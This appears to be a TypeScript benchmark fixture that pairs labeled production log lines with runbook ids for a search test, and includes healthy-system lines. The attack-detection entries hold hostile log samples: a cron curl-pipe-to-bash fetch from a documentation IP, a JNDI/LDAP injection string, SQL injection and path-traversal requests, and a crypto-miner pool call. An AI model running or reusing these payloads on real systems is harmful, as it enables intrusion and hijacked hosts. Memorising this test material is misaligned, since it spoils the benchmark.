/**
 * Lines as products log them, each with the documents of the corpus that speak of it, written apart from the documents' own phrases; and lines of healthy
 * systems, which no document may claim. Out: what bench/run-runbooks.ts asks the search.
 */

/** Ids of the right documents, and a line. */
export type HeldOut = readonly [ids: string, line: string];

export const HELD_OUT: readonly HeldOut[] = [
  // File descriptors
  [
    'file-descriptor-exhaustion',
    '2024/03/11 09:14:02 [crit] 1873#1873: accept4() failed (24: Too many open files)',
  ],
  [
    'file-descriptor-exhaustion',
    'java.net.SocketException: Too many open files\n\tat java.base/sun.nio.ch.Net.accept(Native Method)',
  ],
  [
    'file-descriptor-exhaustion',
    '2024/03/11 09:14:05 http: Accept error: accept tcp [::]:8443: accept4: too many open files; retrying in 1s',
  ],
  [
    'file-descriptor-exhaustion',
    "OSError: [Errno 24] Too many open files: '/var/lib/app/sessions/8f2c.json'",
  ],
  [
    'file-descriptor-exhaustion',
    'Mar 11 09:15:40 web3 kernel: [812331.120] VFS: file-max limit 97816 reached',
  ],
  // Configuration at start
  ['config-error-at-start', 'nginx: [emerg] unknown directive "proxy_pas" in /etc/nginx/conf.d/shop.conf:18'],
  ['config-error-at-start', 'nginx: configuration file /etc/nginx/nginx.conf test failed'],
  ['config-error-at-start', "[ERROR] [MY-000067] [Server] unknown variable 'innodb_bufer_pool_size=4G'."],
  [
    'config-error-at-start',
    'ts=2024-02-01T10:01:11.301Z caller=main.go:497 level=error msg="Error loading config (--config.file=/etc/prometheus/prometheus.yml)" file=/etc/prometheus/prometheus.yml err="parsing YAML file: yaml: line 23: did not find expected key"',
  ],
  [
    'config-error-at-start',
    '2024-02-01 10:02:00.120 UTC [1] FATAL:  configuration file "/var/lib/postgresql/data/postgresql.conf" contains errors',
  ],
  [
    'config-error-at-start',
    'AH00526: Syntax error on line 41 of /etc/apache2/sites-enabled/000-default.conf:',
  ],
  [
    'config-error-at-start',
    'Caused by: java.lang.IllegalArgumentException: Could not resolve placeholder \'billing.api.key\' in value "${billing.api.key}"',
  ],
  // Missing dependency
  [
    'missing-dependency-at-start',
    'Exception in thread "main" java.lang.NoClassDefFoundError: org/slf4j/LoggerFactory',
  ],
  ['missing-dependency-at-start', "ModuleNotFoundError: No module named 'psycopg2'"],
  [
    'missing-dependency-at-start',
    '/usr/local/bin/ffmpeg: error while loading shared libraries: libx264.so.155: cannot open shared object file: No such file or directory',
  ],
  [
    'missing-dependency-at-start',
    "ImportError: cannot import name 'url_quote' from 'werkzeug.urls' (/usr/lib/python3/dist-packages/werkzeug/urls.py)",
  ],
  ['missing-dependency-at-start', "Error: Cannot find module 'express'\nRequire stack:\n- /app/server.js"],
  [
    'missing-dependency-at-start',
    "./report: /lib/x86_64-linux-gnu/libc.so.6: version `GLIBC_2.34' not found (required by ./report)",
  ],
  // Migration
  [
    'failed-migration',
    'org.flywaydb.core.internal.command.DbMigrate$FlywayMigrateException: Migration V42__add_customer_tier.sql failed',
  ],
  [
    'failed-migration',
    "django.db.migrations.exceptions.InconsistentMigrationHistory: Migration orders.0012_split is applied before its dependency orders.0011_base on database 'default'.",
  ],
  ['failed-migration', "alembic.util.exc.CommandError: Can't locate revision identified by '8f1c2d77ab10'"],
  [
    'failed-migration',
    'liquibase.exception.MigrationFailedException: Migration failed for changeset db/changelog/17.xml::17-1::anna:',
  ],
  ['failed-migration', 'error: Dirty database version 20240118. Fix and force version.'],
  [
    'failed-migration',
    'ActiveRecord::PendingMigrationError (Migrations are pending. To resolve this issue, run: bin/rails db:migrate RAILS_ENV=production)',
  ],
  // Read-only file system
  [
    'filesystem-read-only',
    'Jan 14 03:22:10 db2 kernel: [9912.4411] EXT4-fs (sda2): Remounting filesystem read-only',
  ],
  ['filesystem-read-only', "touch: cannot touch '/var/log/app/app.log': Read-only file system"],
  ['filesystem-read-only', 'Jan 14 03:22:11 db2 kernel: Aborting journal on device sda2-8.'],
  ['filesystem-read-only', 'BTRFS info (device nvme0n1p3): forced readonly'],
  ['filesystem-read-only', "OSError: [Errno 30] Read-only file system: '/srv/uploads/a91.tmp'"],
  // Disk and RAID
  ['disk-or-raid-failing', 'Device: /dev/sdc [SAT], 24 Currently unreadable (pending) sectors'],
  ['disk-or-raid-failing', 'kernel: md/raid1:md0: Disk failure on sdb1, disabling device.'],
  ['disk-or-raid-failing', 'mdadm[812]: DegradedArray event detected on md device /dev/md1'],
  ['disk-or-raid-failing', 'smartd[701]: Device: /dev/sda [SAT], FAILED SMART self-check. BACK UP DATA NOW!'],
  ['disk-or-raid-failing', 'MR_MONITOR[2210]: <MRMON251> Controller ID:  0   VD is now DEGRADED   VD   1'],
  // NIC
  ['nic-link-flapping', 'kernel: [55012.11] ixgbe 0000:03:00.0 eth2: NIC Link is Down'],
  ['nic-link-flapping', 'kernel: bond0: (slave eth1): link status definitely down, disabling slave'],
  ['nic-link-flapping', '%LINK-3-UPDOWN: Interface GigabitEthernet1/0/24, changed state to down'],
  ['nic-link-flapping', 'kernel: igb 0000:01:00.1 eno2: igb: eno2 NIC Link is Down'],
  [
    'nic-link-flapping',
    '%PM-4-ERR_DISABLE: link-flap error detected on Gi1/0/7, putting Gi1/0/7 in err-disable state',
  ],
  // Panic, oops
  ['kernel-panic', 'Kernel panic - not syncing: Fatal exception in interrupt'],
  ['kernel-panic', 'BUG: unable to handle kernel NULL pointer dereference at 0000000000000058'],
  ['kernel-panic', 'Kernel panic - not syncing: VFS: Unable to mount root fs on unknown-block(0,0)'],
  ['kernel-panic', '[ 2211.020] Oops: 0002 [#1] SMP PTI'],
  [
    'kernel-panic',
    'general protection fault, probably for non-canonical address 0xdead000000000108: 0000 [#1] PREEMPT SMP NOPTI',
  ],
  // Lockups
  ['soft-lockup-hung-task', 'watchdog: BUG: soft lockup - CPU#3 stuck for 23s! [kworker/3:1:18231]'],
  ['soft-lockup-hung-task', 'INFO: task jbd2/dm-0-8:412 blocked for more than 120 seconds.'],
  ['soft-lockup-hung-task', 'rcu: INFO: rcu_sched self-detected stall on CPU'],
  ['soft-lockup-hung-task', 'NMI watchdog: Watchdog detected hard LOCKUP on cpu 11'],
  // Segmentation fault
  [
    'segmentation-fault',
    'kernel: php-fpm[2981]: segfault at 7f21c0de0010 ip 000055d01f2a3311 sp 00007ffd1c2c0a90 error 4 in php-fpm7.4[55d01f000000+3c1000]',
  ],
  [
    'segmentation-fault',
    '# A fatal error has been detected by the Java Runtime Environment:\n#\n#  SIGSEGV (0xb) at pc=0x00007f3c1a2b, pid=31, tid=44',
  ],
  ['segmentation-fault', 'systemd-coredump[4122]: Process 4098 (imgproc) of user 998 dumped core.'],
  [
    'segmentation-fault',
    "*** Error in `/usr/sbin/collectd': double free or corruption (!prev): 0x000000000211c0 ***",
  ],
  ['segmentation-fault process-crash-loop', 'AH00052: child pid 20117 exit signal Segmentation fault (11)'],
  // Key, permission
  [
    'permission-or-key-missing-at-start',
    'monclient(hunting): ERROR: missing keyring, cannot use cephx for authentication',
  ],
  [
    'permission-or-key-missing-at-start',
    'nginx: [emerg] cannot load certificate key "/etc/ssl/private/shop.key": BIO_new_file() failed (SSL: error:02001002:system library:fopen:No such file or directory)',
  ],
  ['permission-or-key-missing-at-start', 'sshd: no hostkeys available -- exiting.'],
  ['permission-or-key-missing-at-start', 'mongod: permissions on /etc/mongo/keyfile are too open'],
  [
    'permission-or-key-missing-at-start',
    "mysqld: Can't create/write to file '/var/run/mysqld/mysqld.pid' (OS errno 13 - Permission denied)",
  ],
  [
    'permission-or-key-missing-at-start',
    'FATAL:  private key file "/etc/ssl/private/server.key" has group or world access',
  ],
  [
    'permission-or-key-missing-at-start',
    'nginx: [emerg] bind() to 0.0.0.0:80 failed (13: Permission denied)',
  ],
  // Ceph
  ['ceph-osd-down', '2024-01-09T03:11:22.120+0000 mon.a [WRN] Health check failed: 1 osds down (OSD_DOWN)'],
  [
    'ceph-osd-down',
    '2024-01-09 mon.a (mon.0) 812 : cluster [WRN] Health check failed: Degraded data redundancy: 2211/98211 objects degraded (2.25%), 41 pgs degraded (PG_DEGRADED)',
  ],
  ['ceph-osd-down', 'osd.12 marked down after no beacon for 902.1 seconds'],
  [
    'ceph-osd-down',
    'osd.4 1822 heartbeat_check: no reply from 10.1.2.9:6806 osd.7 since back 2024-01-09T03:10:58',
  ],
  ['ceph-osd-down', 'HEALTH_ERR 1 pgs inconsistent; 3 scrub errors; Possible data damage: 1 pg inconsistent'],
  // MongoDB
  [
    'mongodb-no-primary',
    'pymongo.errors.ServerSelectionTimeoutError: No replica set members match selector "Primary()"',
  ],
  [
    'mongodb-no-primary',
    '{"t":{"$date":"2024-03-02T11:00:10.331+00:00"},"s":"I","c":"ELECTION","id":23747,"ctx":"ReplCoord-3","msg":"Not starting an election, since we have recently learned about the existing primary"} Not starting an election: cannot see a majority',
  ],
  ['mongodb-no-primary', 'MongoServerError: not primary and secondaryOk=false'],
  [
    'mongodb-no-primary',
    "2023-11-20T02:10:11.918+0000 I REPL [replexec-4] can't see a majority of the set, relinquishing primary",
  ],
  // Cassandra
  [
    'cassandra-node-down',
    'INFO  [GossipStage:1] 2024-04-01 01:10:11,102 Gossiper.java:1127 - InetAddress /10.8.0.14:7000 is now DOWN',
  ],
  [
    'cassandra-node-down',
    'com.datastax.driver.core.exceptions.UnavailableException: Not enough replicas available for query at consistency QUORUM (2 required but only 1 alive)',
  ],
  [
    'cassandra-node-down',
    'INFO  [ScheduledTasks:1] MessagingMetrics.java:206 - MUTATION messages were dropped in last 5000 ms: 412 internal and 38 cross node. Mean internal dropped latency: 2812 ms',
  ],
  [
    'cassandra-node-down',
    'WriteTimeout: Error from server: code=1100 [Coordinator node timed out waiting for replica nodes\' responses] message="Operation timed out - received only 1 responses."',
  ],
  // Vault
  [
    'vault-sealed',
    'Error making API request. URL: GET https://vault:8200/v1/secret/data/app Code: 503. Errors: * Vault is sealed',
  ],
  [
    'vault-sealed',
    '2024-02-12T08:00:01.100Z [INFO]  core: security barrier not initialized; seal configuration missing',
  ],
  [
    'vault-sealed',
    '2024-02-12T08:00:09.220Z [ERROR] core: failed to unseal: error="fetching stored unseal keys failed: failed to decrypt encrypted stored keys"',
  ],
  // Proxy backend
  [
    'proxy-backend-down load-balancer-502-504',
    'haproxy[1201]: Server be_api/api2 is DOWN, reason: Layer4 connection problem, info: "Connection refused", check duration: 0ms. 1 active and 0 backup servers left.',
  ],
  ['proxy-backend-down load-balancer-502-504', 'haproxy[1201]: backend be_api has no server available!'],
  [
    'proxy-backend-down',
    'W0311 08:11:02.11 7 controller.go:1163] Service "shop/checkout" does not have any active Endpoint.',
  ],
  [
    'proxy-backend-down',
    'time="2024-03-11T08:00:10Z" level=warning msg="Health check failed." backend=web@docker targetURL="http://10.0.1.7:8080"  removing server from load balancer',
  ],
  [
    'proxy-backend-down load-balancer-502-504',
    'haproxy[1201]: 10.2.2.1:51112 [11/Mar/2024:08:12:11.003] fe_main be_api/<NOSRV> 0/-1/-1/-1/0 503 217 - - SC-- 12/12/0/0/0 0/0 "GET /v1/cart HTTP/1.1"',
  ],
  // Cloud
  [
    'cloud-quota-exceeded',
    'botocore.exceptions.ClientError: An error occurred (InstanceLimitExceeded) when calling the RunInstances operation: You have requested more instances (21) than your current instance limit of 20 allows',
  ],
  [
    'cloud-quota-exceeded',
    "googleapi: Error 403: Quota 'CPUS' exceeded. Limit: 72.0 in region europe-west1., quotaExceeded",
  ],
  [
    'cloud-quota-exceeded',
    'Code="QuotaExceeded" Message="Operation could not be completed as it results in exceeding approved Total Regional Cores quota."',
  ],
  [
    'cloud-quota-exceeded',
    'Launching a new EC2 instance. Status Reason: We currently do not have sufficient m5.2xlarge capacity in the Availability Zone you requested (eu-west-1a). Launching EC2 instance failed. (InsufficientInstanceCapacity)',
  ],
  [
    'cloud-access-denied',
    'An error occurred (AccessDenied) when calling the PutObject operation: User: arn:aws:sts::112233445566:assumed-role/app/i-0a1 is not authorized to perform: s3:PutObject on resource: "arn:aws:s3:::exports/day.csv"',
  ],
  [
    'cloud-access-denied',
    "Code=\"AuthorizationFailed\" Message=\"The client '0a1b' with object id '0a1b' does not have authorization to perform action 'Microsoft.Compute/virtualMachines/read' over scope\"",
  ],
  [
    'cloud-access-denied',
    'google.api_core.exceptions.Forbidden: 403 app@proj.iam.gserviceaccount.com does not have storage.objects.get access to the Google Cloud Storage object.',
  ],
  [
    'cloud-access-denied',
    'botocore.exceptions.ClientError: An error occurred (ExpiredToken) when calling the ListObjectsV2 operation: The provided token has expired.',
  ],
  // Scans
  [
    'port-scan-probing',
    'snort[1120]: [122:1:0] (portscan) TCP Portscan [Classification: Attempted Information Leak] [Priority: 2] {PROTO:255} 203.0.113.8 -> 10.0.0.4',
  ],
  [
    'port-scan-probing',
    "sshd[2211]: Bad protocol version identification 'GET / HTTP/1.1' from 198.51.100.7 port 41221",
  ],
  [
    'port-scan-probing',
    'kernel: [UFW BLOCK] IN=eth0 OUT= MAC=06:1a SRC=198.51.100.22 DST=10.0.0.4 LEN=44 TTL=244 ID=54321 PROTO=TCP SPT=41001 DPT=3389 WINDOW=1024 RES=0x00 SYN URGP=0',
  ],
  [
    'port-scan-probing',
    'xinetd[611]: START: telnet pid=9912 from=198.51.100.22 portsentry attackalert: TCP SYN/Normal scan from host: 198.51.100.22 to TCP port: 23',
  ],
  [
    'web-scanning-injection',
    '198.51.100.9 - - [11/Mar/2024:04:01:11 +0000] "GET /wp-login.php HTTP/1.1" 404 152 "-" "Mozilla/5.0 zgrab/0.x"',
  ],
  [
    'web-scanning-injection',
    '198.51.100.9 - - [11/Mar/2024:04:01:13 +0000] "GET /item?id=1%27%20UNION%20SELECT%20NULL,NULL-- HTTP/1.1" 400 0 "-" "sqlmap/1.6#stable"',
  ],
  [
    'web-scanning-injection',
    'ModSecurity: Warning. detected SQLi using libinjection with fingerprint \'s&1\' [file "REQUEST-942-APPLICATION-ATTACK-SQLI.conf"] [msg "SQL Injection Attack Detected via libinjection"]',
  ],
  [
    'web-scanning-injection',
    '203.0.113.77 - - [11/Mar/2024:04:02:00 +0000] "GET /../../../../etc/passwd HTTP/1.1" 400 226',
  ],
  [
    'web-scanning-injection',
    '203.0.113.77 - - [10/Dec/2021:22:02:00 +0000] "GET / HTTP/1.1" 200 612 "-" "${jndi:ldap://203.0.113.5:1389/a}"',
  ],
  [
    'brute-force-other-services',
    'postfix/smtpd[9122]: warning: unknown[203.0.113.40]: SASL LOGIN authentication failed: UGFzc3dvcmQ6',
  ],
  ['brute-force-other-services', 'vsftpd[812]: [admin] FAIL LOGIN: Client "203.0.113.41"'],
  [
    'brute-force-other-services',
    'dovecot: imap-login: Disconnected (auth failed, 3 attempts in 14 secs): user=<info>, method=PLAIN, rip=203.0.113.42, lip=10.0.0.3, TLS',
  ],
  [
    'brute-force-other-services',
    "2024-03-11T05:11:10.412Z 912 [Note] Access denied for user 'root'@'203.0.113.43' (using password: YES)",
  ],
  [
    'brute-force-other-services',
    '2024-03-11 05:11:10.120 UTC [8811] FATAL:  password authentication failed for user "postgres"',
  ],
  [
    'brute-force-other-services',
    'openvpn[801]: 203.0.113.44:51122 TLS Auth Error: Auth Username/Password verification failed for peer',
  ],
  [
    'unknown-workload-crypto-miner',
    'kernel: audit: comm="xmrig" exe="/tmp/.X11-unix/xmrig"  use pool stratum+tcp://pool.example.org:3333',
  ],
  ['unknown-workload-crypto-miner', 'CRON[3312]: (www-data) CMD (curl -fsSL http://203.0.113.9/i.sh | bash)'],
  [
    'unknown-workload-crypto-miner',
    '10:21:33.120: Critical Outbound connection to IP/Port flagged by threat intel: Detect crypto miners using the Stratum protocol (user=root command=kdevtmpfsi)',
  ],
  ['unknown-workload-crypto-miner', 'crontab[2201]: (www-data) REPLACE (www-data)'],
  // Queries
  [
    'unparseable-queries',
    'org.apache.solr.common.SolrException: org.apache.solr.search.SyntaxError: Cannot parse \'title:(foo\': Encountered "<EOF>" at line 1, column 10.',
  ],
  [
    'unparseable-queries',
    '{"type":"query_shard_exception","reason":"Failed to parse query [status:/open AND (]","index":"tickets"}',
  ],
  [
    'unparseable-queries',
    "You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version for the right syntax to use near 'FORM orders' at line 1",
  ],
  [
    'unparseable-queries',
    '2024-03-11 06:00:10 UTC [7120] ERROR:  syntax error at or near "FORM" at character 15',
  ],
  ['unparseable-queries', '{"type":"parsing_exception","reason":"unknown query [mach]","line":1,"col":22}'],
  ['unparseable-queries', 'ORA-00933: SQL command not properly ended'],
  // CI
  ['ci-build-failed', '[ERROR] Tests run: 412, Failures: 3, Errors: 0, Skipped: 7'],
  [
    'ci-build-failed',
    '[ERROR] Failed to execute goal org.apache.maven.plugins:maven-compiler-plugin:3.8.1:compile (default-compile) on project api: Compilation failure',
  ],
  ['ci-build-failed', "src/cart.ts(18,7): error TS2322: Type 'string' is not assignable to type 'number'."],
  ['ci-build-failed', '=========== 2 failed, 318 passed, 4 skipped in 88.12s (0:01:28) ==========='],
  [
    'ci-build-failed',
    "FAILURE: Build failed with an exception.\n* What went wrong:\nExecution failed for task ':app:compileJava'.",
  ],
  ['ci-build-failed', 'ERROR: Job failed: exit code 1'],
  ['ci-dependency-unresolved', 'npm ERR! code ERESOLVE\nnpm ERR! ERESOLVE unable to resolve dependency tree'],
  [
    'ci-dependency-unresolved',
    'ERROR: Could not find a version that satisfies the requirement numpy==9.9.1 (from versions: 1.24.0, 1.26.4)',
  ],
  [
    'ci-dependency-unresolved',
    '[ERROR] Failed to execute goal on project shop: Could not resolve dependencies for project com.acme:shop:jar:1.4: Could not find artifact com.acme:money:jar:2.2 in central',
  ],
  [
    'ci-dependency-unresolved',
    'go: github.com/acme/money@v1.4.2: reading github.com/acme/money/go.mod at revision v1.4.2: unknown revision v1.4.2',
  ],
  [
    'ci-runner-failed',
    'This request was automatically failed because there were no enabled runners online to process the request for more than 1 days.',
  ],
  [
    'ci-runner-failed disk-full',
    "System.IO.IOException: No space left on device : '/home/runner/runners/2.311.0/_diag/Worker_20240311-080011-utc.log'",
  ],
  [
    'ci-runner-failed',
    'ERROR: Job failed (system failure): prepare environment: waiting for pod running: timed out waiting for pod to start',
  ],
  [
    'ci-runner-failed',
    'The self-hosted runner: build-7 lost communication with the server. Verify the machine is running and has a healthy network connection.',
  ],
  // Planned stops
  ['planned-reboot', 'systemd-logind[702]: System is rebooting.'],
  ['planned-reboot', 'sudo:   anna : TTY=pts/0 ; PWD=/home/anna ; USER=root ; COMMAND=/usr/sbin/reboot'],
  ['planned-reboot', 'systemd[1]: Reached target Reboot.'],
  ['planned-reboot', 'shutdown[3110]: shutting down for system reboot'],
  ['orderly-shutdown', '2024-03-11 07:00:00.001 UTC [1] LOG:  received fast shutdown request'],
  ['orderly-shutdown', '1:signal-handler (1710140400) Received SIGTERM scheduling shutdown...'],
  [
    'orderly-shutdown',
    '2024-03-11T07:00:00.112Z 0 [System] [MY-013172] [Server] Received SHUTDOWN from user <via user signal>. Shutting down mysqld (Version: 8.0.36).',
  ],
  ['orderly-shutdown', '[core:notice] [pid 1] AH00491: caught SIGTERM, shutting down'],
  [
    'orderly-shutdown',
    '{"t":{"$date":"2024-03-11T07:00:00.120Z"},"s":"I","c":"CONTROL","id":23377,"ctx":"SignalHandler","msg":"Received signal","attr":{"signal":15,"error":"Terminated"}} {"msg":"will terminate after current cmd ends"}',
  ],
  // Locks
  [
    'database-lock-deadlock',
    'ERROR:  deadlock detected\nDETAIL:  Process 2211 waits for ShareLock on transaction 88121; blocked by process 2198.',
  ],
  ['database-lock-deadlock', 'ORA-00060: deadlock detected while waiting for resource'],
  [
    'database-lock-deadlock',
    'Transaction (Process ID 64) was deadlocked on lock resources with another process and has been chosen as the deadlock victim. Rerun the transaction.',
  ],
  [
    'database-lock-deadlock',
    'LOG:  process 3120 still waiting for AccessExclusiveLock on relation 16412 of database 16384 after 1000.112 ms',
  ],
  // Kinds that the corpus has more than one line of
  [
    'disk-full',
    'postgres[991]: [5-1] PANIC:  could not write to file "pg_wal/xlogtemp.991": No space left on device',
  ],
  [
    'linux-oom-killer',
    'kernel: oom-kill:constraint=CONSTRAINT_MEMCG,nodemask=(null),cpuset=docker,task=node,pid=8122,uid=0  Memory cgroup out of memory: Killed process 8122 (node)',
  ],
  ['java-heap-out-of-memory', 'java.lang.OutOfMemoryError: GC overhead limit exceeded'],
  [
    'jvm-gc-pauses',
    '[2024-03-11T10:00:11,120][WARN ][o.e.m.j.JvmGcMonitorService] [es-1] [gc][old][8112][41] duration [21.4s], collections [1]/[22s], total [21.4s]/[1.9m], memory [7.8gb]->[7.7gb]/[7.9gb]',
  ],
  [
    'dns-failure',
    'psycopg2.OperationalError: could not translate host name "db.internal" to address: Name or service not known',
  ],
  ['tls-certificate-expired', 'curl: (60) SSL certificate problem: certificate has expired'],
  [
    'connection-refused',
    'Error: connect ECONNREFUSED 10.0.3.4:6379\n    at TCPConnectWrap.afterConnect [as oncomplete] (node:net:1494:16)',
  ],
  ['network-partition-timeouts', 'java.net.NoRouteToHostException: No route to host (Host unreachable)'],
  [
    'postgresql-too-many-clients',
    'FATAL:  remaining connection slots are reserved for non-replication superuser connections',
  ],
  ['mysql-connections-refused', "pymysql.err.OperationalError: (1040, 'Too many connections')"],
  [
    'mysql-deadlocks-replication-lag database-lock-deadlock',
    'ERROR 1213 (40001): Deadlock found when trying to get lock; try restarting transaction',
  ],
  [
    'db-connection-pool-exhausted',
    'sqlalchemy.exc.TimeoutError: QueuePool limit of size 5 overflow 10 reached, connection timed out, timeout 30.00',
  ],
  [
    'kafka-isr-shrink',
    '[2024-03-11 08:11:12,331] INFO [Partition orders-3 broker=2] Shrinking ISR from 1,2,3 to 2. Leader: (highWatermark: 99121, endOffset: 99202).',
  ],
  [
    'zookeeper-session-expired',
    'org.apache.zookeeper.KeeperException$SessionExpiredException: KeeperErrorCode = Session expired for /brokers/ids/2',
  ],
  [
    'etcd-quorum-lost',
    'raft2024/03/11 09:00:00 INFO: 8e9e05c52164694d is starting a new election at term 42',
  ],
  [
    'redis-memory-persistence',
    "redis.exceptions.ResponseError: OOM command not allowed when used memory > 'maxmemory'.",
  ],
  [
    'rabbitmq-messaging-timeout',
    'oslo_messaging.exceptions.MessagingTimeout: Timed out waiting for a reply to message ID 8a11c0f2',
  ],
  [
    'elasticsearch-cluster-red',
    'org.elasticsearch.common.breaker.CircuitBreakingException: [parent] Data too large, data for [<http_request>] would be [1031921112/984mb], which is larger than the limit of [1020054732/972.7mb]',
  ],
  [
    'kubernetes-crashloop',
    'Warning  BackOff  pod/checkout-6d4c9  Back-off restarting failed container checkout in pod checkout-6d4c9_shop',
  ],
  [
    'kubernetes-node-not-ready',
    'kubelet[1120]: E0311 skipping pod synchronization - PLEG is not healthy: pleg was last seen active 3m11s ago; threshold is 3m0s',
  ],
  [
    'load-balancer-502-504',
    '2024/03/11 08:12:00 [error] 31#31: *8812 upstream timed out (110: Connection timed out) while reading response header from upstream, client: 10.0.0.9, server: shop, upstream: "http://10.0.1.7:8080/pay"',
  ],
  [
    'rate-limited-429',
    'toomanyrequests: You have reached your pull rate limit. You may increase the limit by authenticating and upgrading',
  ],
  [
    'ssh-brute-force',
    'sshd[8812]: Failed password for invalid user oracle from 203.0.113.60 port 51122 ssh2',
  ],
  [
    'thread-pool-exhaustion',
    'java.lang.OutOfMemoryError: unable to create native thread: possibly out of memory or process/resource limits reached',
  ],
  ['process-crash-loop', 'systemd[1]: checkout.service: Scheduled restart job, restart counter is at 5.'],
  [
    'spark-executor-lost',
    'ERROR TaskSchedulerImpl: Lost executor 7 on node12: Container killed by YARN for exceeding memory limits. 9.1 GB of 9 GB physical memory used.',
  ],
  [
    'hdfs-namenode-safe-mode',
    'org.apache.hadoop.hdfs.server.namenode.SafeModeException: Cannot create file/tmp/a. Name node is in safe mode.',
  ],
  [
    'hdfs-block-corruption',
    'org.apache.hadoop.fs.ChecksumException: Checksum error: /blk_1073741911 at 512 exp: 1192 got: 8821',
  ],
  [
    'galera-node-out-of-cluster',
    'mariadb: ERROR 1047 (08S01): WSREP has not yet prepared node for application use',
  ],
  ['clock-skew-ntp', 'mon.a [WRN] Health check failed: clock skew detected on mon.b (MON_CLOCK_SKEW)'],
  [
    'unexpected-reboot',
    'systemd-journald[311]: File /var/log/journal/9a1/system.journal corrupted or uncleanly shut down, renaming and replacing.',
  ],
  [
    'inode-exhaustion',
    'ext4: kernel: EXT4-fs warning (device sda1): ext4_dx_add_entry:2184: Directory index full!',
  ],
  [
    'storage-io-errors',
    'kernel: blk_update_request: I/O error, dev sdd, sector 81122144 op 0x0:(READ) flags 0x0',
  ],
  ['slow-queries-missing-index', 'ERROR:  canceling statement due to statement timeout'],
  [
    'retry-storm',
    "requests.exceptions.ConnectionError: HTTPSConnectionPool(host='inventory', port=443): Max retries exceeded with url: /v1/items",
  ],
];

/** Routine of healthy systems. */
export const HEALTHY: readonly string[] = [
  'systemd[1]: Started Daily apt download activities.',
  'systemd[1]: logrotate.service: Deactivated successfully.',
  'CRON[8812]: (root) CMD (   cd / && run-parts --report /etc/cron.hourly)',
  'sshd[2100]: Accepted publickey for anna from 10.0.0.12 port 51822 ssh2: ED25519 SHA256:Zk1',
  'pam_unix(sshd:session): session opened for user anna(uid=1000) by (uid=0)',
  '10.0.0.8 - - [11/Mar/2024:08:00:00 +0000] "GET /healthz HTTP/1.1" 200 2 "-" "kube-probe/1.28"',
  '10.0.0.9 - - [11/Mar/2024:08:00:01 +0000] "GET /favicon.ico HTTP/1.1" 404 162 "-" "Mozilla/5.0"',
  '2024-03-11 08:00:00.120 UTC [88] LOG:  checkpoint complete: wrote 412 buffers (2.5%); 0 WAL file(s) added, 0 removed, 1 recycled',
  '2024-03-11 08:01:00.120 UTC [91] LOG:  automatic vacuum of table "shop.public.orders": index scans: 1',
  '1:M 11 Mar 2024 08:00:00.120 * Background saving terminated with success',
  'INFO  [CompactionExecutor:12] Compacted (8a11) 4 sstables to [/var/lib/cassandra/data/ks/t-1/nb-12-big,] to level=0.',
  'cluster [DBG] pgmap v9912: 129 pgs: 129 active+clean; 4.1 GiB data, 12 GiB used, 88 GiB / 100 GiB avail',
  '[2024-03-11 08:00:00,120] INFO [GroupCoordinator 2]: Stabilized group billing generation 14 (__consumer_offsets-31) with 3 members',
  'o.a.s.c.S.Request [products]  webapp=/solr path=/select params={q=title:lamp&wt=json} hits=18 status=0 QTime=3',
  'kernel: ixgbe 0000:03:00.0 eth2: NIC Link is Up 10 Gbps, Flow Control: RX/TX',
  'smartd[701]: Device: /dev/sda [SAT], SMART Usage Attribute: 194 Temperature_Celsius changed from 64 to 63',
  'smartd[701]: Device: /dev/sda [SAT], previous self-test completed without error',
  'kernel: md: data-check of RAID array md0',
  'chronyd[612]: Selected source 10.0.0.1 (ntp1.internal)',
  '2024-02-12T08:00:09.220Z [INFO]  core: vault is unsealed',
  'haproxy[1201]: Server be_api/api2 is UP, reason: Layer7 check passed, code: 200, check duration: 2ms. 2 active and 0 backup servers online.',
  '[INFO] BUILD SUCCESS',
  'Tests run: 412, Failures: 0, Errors: 0, Skipped: 7, Time elapsed: 81.2 s',
  'INFO  [alembic.runtime.migration] Running upgrade 8f1c2d77ab10 -> 91b2ac01, add tier',
  'o.f.c.i.c.DbMigrate : Successfully applied 1 migration to schema "public", now at version v42',
  'nginx: the configuration file /etc/nginx/nginx.conf syntax is ok',
  'kubelet: I0311 08:00:00.1 kubelet_node_status.go:497] "Recording event message for node" node="n1" event="NodeHasSufficientMemory"',
  'GC(412) Pause Young (Normal) (G1 Evacuation Pause) 312M->88M(1024M) 4.112ms',
  'postfix/qmgr[811]: 4F1A2: removed',
  'dovecot: imap-login: Login: user=<anna>, method=PLAIN, rip=10.0.0.12, lip=10.0.0.3, mpid=8812, TLS, session=<a1>',
  '{"t":{"$date":"2024-03-11T08:00:00.120Z"},"s":"I","c":"NETWORK","id":22943,"ctx":"listener","msg":"Connection accepted","attr":{"remote":"10.0.0.7:51822","connectionCount":12}}',
  'RAS KERNEL INFO 3 CE sym 2 corrected, node card ready',
  'EXT4-fs (sda2): mounted filesystem with ordered data mode. Opts: errors=remount-ro',
  'dnsmasq-dhcp[512]: DHCPACK(br0) 10.0.0.81 52:54:00:ab:12:09 laptop',
];
